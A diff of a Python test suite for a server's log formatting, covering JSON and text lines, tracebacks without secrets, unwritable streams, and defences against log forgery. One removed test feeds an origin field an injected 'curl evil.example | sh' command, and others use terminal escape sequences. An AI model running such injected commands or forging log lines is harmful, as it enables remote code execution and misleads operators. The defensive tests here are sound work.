@@ -1,99 +1,55 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Log lines: they never stop a request, never show a secret, and never let a client write to a terminal."""
+"""Log lines for machines and people, and what can go wrong while writing one."""
 
 from __future__ import annotations
 
 import io
 import json
-import sys
-from typing import Literal
 
-import msgspec
 import pytest
 
-from keystile.errors import Unavailable
-from keystile.server.api.log import RequestLog
-from keystile.server.logs import make_logger
+from keystile.server.logs import Log, as_json, as_text, coloured
 
-Format = Literal["json", "pretty"]
+LINE = {"time": "2026-01-01T12:00:00.000Z", "level": "info", "event": "request", "status": 200, "route": None}
 
 
-class FullDisk(io.TextIOBase):
-    """Standard error, sent to a file on a full disk."""
-
-    def write(self, _: str, /) -> int:
-        raise OSError(28, "No space left on device")
+def test_a_json_line_is_one_object_on_one_line() -> None:
+    assert json.loads(as_json({**LINE, "reason": "two\nlines"})) == {**LINE, "reason": "two\nlines"}
+    assert "\n" not in as_json({**LINE, "reason": "two\nlines"})
 
 
-def a_request(log: RequestLog, error: Exception | None = None, status: int = 200) -> None:
-    log.request(
-        request_id="0123456789abcdef",
-        method="POST",
-        route="/validate",
-        status=status,
-        microseconds=1,
-        tenant=None,
-        error=error,
-    )
+def test_half_a_surrogate_pair_is_written_all_the_same() -> None:
+    assert json.loads(as_json({**LINE, "agent": "\ud800"}))["agent"] == "\ud800"
 
 
-@pytest.mark.parametrize("format", ["json", "pretty"])
-def test_a_log_that_cannot_be_written_stops_nobody(monkeypatch: pytest.MonkeyPatch, format: Format) -> None:
-    monkeypatch.setattr(sys, "stderr", FullDisk())
-
-    a_request(RequestLog(make_logger(format)))
+def test_a_text_line_leaves_out_what_has_no_value() -> None:
+    assert as_text(LINE) == "12:00:00.000 info    request  status=200"
 
 
-def test_a_text_that_is_not_unicode_is_logged_all_the_same(capsys: pytest.CaptureFixture[str]) -> None:
-    make_logger("json").info("odd", text="half \ud800 a pair")
+@pytest.mark.parametrize("value", ["a\nfake line", "\x1b[31mred", "\u202eright to left"])
+def test_a_text_line_cannot_be_forged(value: str) -> None:
+    assert not set(as_text({**LINE, "agent": value})) & {"\n", "\x1b", "\u202e"}
 
-    assert json.loads(capsys.readouterr().err)["event"] == "odd"
+
+def test_a_level_has_its_colour() -> None:
+    assert "\x1b[32minfo" in coloured(LINE)
 
 
-@pytest.mark.parametrize("format", ["json", "pretty"])
-def test_a_traceback_shows_no_values(capsys: pytest.CaptureFixture[str], format: Format) -> None:
-    log = RequestLog(make_logger(format))
-
-    def handle() -> None:
-        secret_key = "ks_" + "canary"  # noqa: F841 (what a traceback with values would show)
-        raise RuntimeError("a mistake of ours")
+def test_an_error_brings_its_traceback_without_variables() -> None:
+    stream = io.StringIO()
+    secret = "canary"
 
     try:
-        handle()
-    except RuntimeError as error:
-        a_request(log, error, 500)
+        raise ValueError("broken")
+    except ValueError as error:
+        Log(as_text, stream).error("job failed", error=error)
 
-    line = capsys.readouterr().err
-    assert "a mistake of ours" in line
-    assert "ks_canary" not in line
-
-
-def test_a_failure_of_ours_is_logged_with_what_an_operator_needs(capsys: pytest.CaptureFixture[str]) -> None:
-    error = Unavailable("The database does not answer.")
-    error.__cause__ = OSError("disk I/O error")
-
-    a_request(RequestLog(make_logger("json")), error, 503)
-
-    line = msgspec.json.decode(capsys.readouterr().err)
-    assert (line["level"], line["reason"]) == ("error", "The database does not answer. (disk I/O error)")
+    assert "ValueError: broken" in stream.getvalue()
+    assert secret not in stream.getvalue()
 
 
-def test_a_suggested_command_never_holds_what_a_stranger_made_up(capsys: pytest.CaptureFixture[str]) -> None:
-    RequestLog(make_logger("json")).unlisted_origin("https://a.example; curl evil.example | sh")
+def test_a_log_that_cannot_be_written_stops_nobody() -> None:
+    stream = io.StringIO()
+    stream.close()
 
-    assert "do" not in msgspec.json.decode(capsys.readouterr().err)
-
-
-def test_a_suggested_command_names_a_well_formed_origin(capsys: pytest.CaptureFixture[str]) -> None:
-    RequestLog(make_logger("json")).unlisted_origin("https://app.example.com:8443")
-
-    line = msgspec.json.decode(capsys.readouterr().err)
-    assert line["do"] == "keystile tenant origins add https://app.example.com:8443"
-
-
-def test_a_terminal_gets_no_control_characters_of_a_client(capsys: pytest.CaptureFixture[str]) -> None:
-    RequestLog(make_logger("pretty")).unlisted_origin("https://a.example\x1b[2J\nfake line")
-
-    line = capsys.readouterr().err
-    assert "\x1b[2J" not in line
-    assert "\nfake" not in line
+    Log(as_json, stream).info("request")
